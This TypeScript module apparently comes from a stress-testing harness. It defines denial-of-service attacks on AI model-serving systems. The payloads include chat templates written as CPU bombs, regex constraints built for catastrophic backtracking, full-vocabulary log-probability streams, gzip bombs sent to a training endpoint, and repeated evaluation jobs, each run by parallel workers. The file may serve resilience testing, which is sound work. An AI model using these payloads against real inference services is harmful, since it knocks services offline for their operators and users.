import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { post, readAll } from "./attack.js";
import type { AttackShape, Target } from "./attack.js";

/** Attacks on what runs models, and on the threads and processes behind it. */
export const modelAttacks = {
  "chat templates": { workers: 60, run: sendTemplate },
  constraints: { workers: 12, run: sendConstraint },
  "completion streams": { workers: 60, run: streamCompletion },
  "compressed trajectories": { workers: 6, run: sendTrajectory },
  "endless evaluations": { workers: 4, run: evaluate },
} satisfies Record<string, AttackShape>;

const ask = { model: "heddle/starter", messages: [{ role: "user", content: "Say the word loom." }] };
let next = 0;

const complete = async (target: Target, more: object) =>
  await post(target, "/v1/chat/completions", Buffer.from(JSON.stringify({ ...ask, ...more })));

/** About 200 bytes each. */
const templates = [
  "{% for i in range(100000) %}{% for j in range(100000) %}{% set a = i * j %}{% endfor %}{% endfor %}",
  "{% set a = 'ab' * 100000 %}{% for i in range(10000) %}{% set b = a | replace('b', a[:8]) %}{% endfor %}",
  "{% set a = range(100000) | list %}{% for i in range(10000) %}{% set b = a | sort %}{% endfor %}",
  "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(60) }}",
];

async function sendTemplate(target: Target): Promise<void> {
  // None is compiled before.
  const template = `${templates[next % templates.length]}${next++}`;
  await readAll(await complete(target, { max_tokens: 5, chat_template: template }));
}

/** At most 32 characters each. */
const expressions = [
  "((a{1,99}){1,99}){1,99}",
  "(a|b|c){1,500}(a|b){1,500}",
  "(.*a.*b.*c.*d.*e.*f.*g.*h){1,9}",
  "(a?b?c?d?){1,200}(ab|cd){1,200}",
];

async function sendConstraint(target: Target): Promise<void> {
  const regex = `${expressions[next % expressions.length]}${(next++ % 997).toString(36)}`;
  await readAll(await complete(target, { max_tokens: 5, structured_outputs: { regex } }));
}

/** Long ones, some with the log-probabilities of the whole vocabulary. */
async function streamCompletion(target: Target): Promise<void> {
  const logprobs = next++ % 3 === 0 ? { logprobs: true, top_logprobs: -1 } : {};
  await readAll(await complete(target, { max_tokens: 400, ignore_eos: true, stream: true, ...logprobs }));
}

/** 58 KB of gzip that become a trajectory of 60 MB. */
let compressed: Uint8Array[] = [];

/** Compresses what is sent, which takes seconds. */
export function prepareTrajectories({ modelId }: Target): void {
  const trajectories = [
    `{"messages_and_choices":[{"role":"user","content":"${"a".repeat(60_000_000)}"}],"reward":1}`,
    `{"messages_and_choices":[],"metadata":{"a":[${"{},".repeat(20_000_000)}{}]}}`,
  ];
  compressed = trajectories.map((trajectory) =>
    gzipSync(`{"model_id":"${modelId}","trajectory_groups":[{"trajectories":[${trajectory}]}]}`),
  );
}

async function sendTrajectory(target: Target): Promise<void> {
  const body = compressed[next++ % compressed.length] ?? Buffer.alloc(0);
  await readAll(await post(target, "/v1/preview/training-jobs", body, { "content-encoding": "gzip" }));
}

/** The worker begins one, and then another every few seconds. */
async function evaluate(target: Target): Promise<void> {
  await readAll(await post(target, "/evaluations/evaluate_model", target.evaluation));
  await delay(5000);
}
